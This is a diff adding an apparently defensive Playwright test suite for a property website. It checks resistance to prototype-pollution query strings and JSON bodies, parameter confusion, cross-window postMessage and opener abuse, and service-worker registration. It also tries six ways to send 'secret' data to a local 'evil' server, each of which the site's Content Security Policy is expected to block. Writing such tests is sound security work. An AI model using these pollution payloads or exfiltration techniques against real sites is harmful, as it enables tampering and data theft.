@@ -1,0 +1,188 @@
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { sendRaw } from '../support/raw-request';
+import { expect, hydrated, open, test } from '../support/test';
+import { seen } from './support/seen';
+
+const POLLUTIONS = [
+  '__proto__[x]=1',
+  '__proto__.x=1',
+  'constructor.prototype.x=1',
+  'constructor[prototype][x]=1',
+  'type=__proto__&city=__proto__&sort=__proto__',
+  encodeURIComponent('__proto__[x]=1'),
+];
+
+test.describe('hostile addresses and windows', { tag: '@core' }, () => {
+  test('W12 no address, stored text or body changes what every object has', async ({ page }) => {
+    const isClean = () => page.evaluate(() => Reflect.get({}, 'x') === undefined);
+    for (const query of POLLUTIONS) {
+      await open(page, `/search?${query}#${query}`);
+      expect(await isClean(), query).toBe(true);
+    }
+    await page.evaluate(() => {
+      for (const key of ['user', 'nivaas:sell-draft', 'nivaas:shortlist'])
+        localStorage.setItem(key, '{"__proto__":{"x":1},"constructor":{"prototype":{"x":1}},"name":"Asha"}');
+    });
+    for (const url of ['/', '/sell/property', '/saved']) {
+      await open(page, url);
+      expect(await isClean(), url).toBe(true);
+    }
+    for (const body of ['{"__proto__":{"x":1}}', '{"constructor":{"prototype":{"x":1}}}']) {
+      for (const target of ['/auth/login', '/auth/register']) {
+        const headers = { 'content-type': 'application/json' };
+        expect((await sendRaw(target, { method: 'POST', body, headers })).status).toBe(400);
+      }
+    }
+    // The edge reads settings and headers from plain objects: one that was polluted would say so somewhere.
+    const release = await sendRaw('/_release');
+    expect([release.status, release.headers['x']]).toEqual([200, undefined]);
+    seen('objects as before; bodies answered 400');
+  });
+
+  test('W13 of a parameter that comes twice the first counts, and brackets are no parameters', async () => {
+    const heading = async (query: string) => {
+      const { status, body } = await sendRaw(`/search?${query}`);
+      expect(status, query).toBe(200);
+      return /<h1[^>]*>(.*?)<\/h1>/s.exec(body)?.[1]?.replace(/<[^>]*>/g, '');
+    };
+    expect(await heading('city=Pune&city=Delhi')).toBe('Properties for Sale in Pune');
+    expect(await heading('type=rent&type=buy&location=Pune&location=')).toBe('Rental Properties in Pune');
+    for (const query of ['city[]=Pune', 'city[a]=Pune', 'city%5B%5D=Pune', 'city.a=Pune', 'city;=Pune'])
+      expect(await heading(query), query).toBe('Properties for Sale');
+    expect(await heading(Array.from({ length: 200 }, (_, index) => `city=${index}`).join('&'))).toBe(
+      'Properties for Sale in 0',
+    );
+  });
+
+  test('W15+W16 messages from other windows change nothing, and no other window keeps a hand on this one', async ({
+    page,
+    context,
+    baseURL,
+  }) => {
+    const junk = [
+      null,
+      7,
+      '{"type":"navigate","to":"//evil.example"}',
+      { type: 'account:signed-in', name: 'x' },
+    ];
+    const evil = createServer((_, response) => {
+      response.writeHead(200, { 'content-type': 'text/html' });
+      response.end(
+        `<title>evil</title><button onclick="opened=window.open('${baseURL}/about')">Open</button>`,
+      );
+    });
+    await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve));
+    try {
+      await page.goto(`http://127.0.0.1:${(evil.address() as AddressInfo).port}/`);
+      const opening = context.waitForEvent('page');
+      await page.getByRole('button').click();
+      const site = await opening;
+      await hydrated(site);
+      const state = () =>
+        site.evaluate(() => [opener, document.title, location.href, localStorage.length, name] as const);
+      const before = await state();
+      expect(before[0]).toBeNull();
+      // The opener has lost the window, so it cannot reach it; the page says the same to itself.
+      expect(await page.evaluate('opened.closed')).toBe(true);
+      await page.evaluate((messages) => {
+        for (const one of messages) (Reflect.get(globalThis, 'opened') as Window).postMessage(one, '*');
+      }, junk);
+      await site.evaluate(async (messages) => {
+        for (const one of messages) window.postMessage(one, '*');
+        await new Promise((resolve) => setTimeout(resolve));
+      }, junk);
+      expect(await state()).toEqual(before);
+      await expect(site.getByRole('heading', { level: 1 })).toBeVisible();
+      seen('the opener has lost the window; nothing listens to messages');
+    } finally {
+      evil.closeAllConnections();
+      evil.close();
+    }
+  });
+
+  test('O13 a package that turned bad reaches no other site, by any way out of the page', async ({
+    page,
+    noise,
+  }) => {
+    noise.allowed.push(/Content Security Policy|violates|csp$|ERR_BLOCKED_BY_CSP|Failed to fetch|WebSocket/i);
+    const met: string[] = [];
+    const evil = createServer((request, response) => {
+      met.push(request.url ?? '');
+      response.writeHead(200, {
+        'access-control-allow-origin': '*',
+        'cross-origin-resource-policy': 'cross-origin',
+      });
+      response.end('thank you');
+    });
+    await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve));
+    const origin = `http://127.0.0.1:${(evil.address() as AddressInfo).port}`;
+    try {
+      await open(page, '/');
+      const stopped = await page.evaluate(async (to) => {
+        const directives = new Set<string>();
+        document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
+          directives.add(`${effectiveDirective} ${new URL(blockedURI).pathname.slice(1)}`),
+        );
+        const ways: Record<string, () => unknown> = {
+          fetch: () => fetch(`${to}/fetch`),
+          request: () => {
+            const request = new XMLHttpRequest();
+            request.open('POST', `${to}/request`);
+            request.send('secret');
+          },
+          beacon: () => navigator.sendBeacon(`${to}/beacon`, 'secret'),
+          events: () => new EventSource(`${to}/events`),
+          socket: () => new WebSocket(`${to.replace('http', 'ws')}/socket`),
+          picture: () => (new Image().src = `${to}/picture`),
+        };
+        for (const way of Object.values(ways))
+          await Promise.resolve()
+            .then(way)
+            .catch(() => undefined);
+        await new Promise<void>((resolve) => {
+          const look = () => (directives.size >= 6 ? resolve() : void setTimeout(look, 20));
+          look();
+        });
+        return [...directives].sort();
+      }, origin);
+      expect(stopped).toEqual([
+        ...['beacon', 'events', 'fetch', 'request', 'socket'].map((way) => `connect-src ${way}`),
+        'img-src picture',
+      ]);
+      expect(met).toEqual([]);
+      // The other site is there: whoever is no page of ours reaches it.
+      expect(await (await page.request.get(`${origin}/control`)).text()).toBe('thank you');
+      expect(met).toEqual(['/control']);
+      seen('six of six ways stopped by the policy; nothing arrived');
+    } finally {
+      evil.closeAllConnections();
+      evil.close();
+    }
+  });
+
+  test('W20 no file of the site becomes a service worker', async ({ page, noise }) => {
+    noise.allowed.push(/service worker|Content Security Policy|csp$/i);
+    await open(page, '/');
+    const script = await page
+      .locator('link[rel=preload][as=script]')
+      .first()
+      .evaluate((link: HTMLLinkElement) => link.href);
+    expect((await page.request.get(script)).headers()['service-worker-allowed']).toBeUndefined();
+    for (const scope of ['/', new URL('.', script).pathname]) {
+      const outcome = await page.evaluate(
+        ([url, where]) =>
+          navigator.serviceWorker.register(url ?? '', { scope: where ?? '' }).then(
+            () => 'registered',
+            (error: Error) => error.name,
+          ),
+        [script, scope],
+      );
+      expect(outcome, scope).toMatch(/^(SecurityError|TypeError)$/);
+    }
+    expect(await page.evaluate(async () => (await navigator.serviceWorker.getRegistrations()).length)).toBe(
+      0,
+    );
+    seen('registration refused in every folder');
+  });
+});
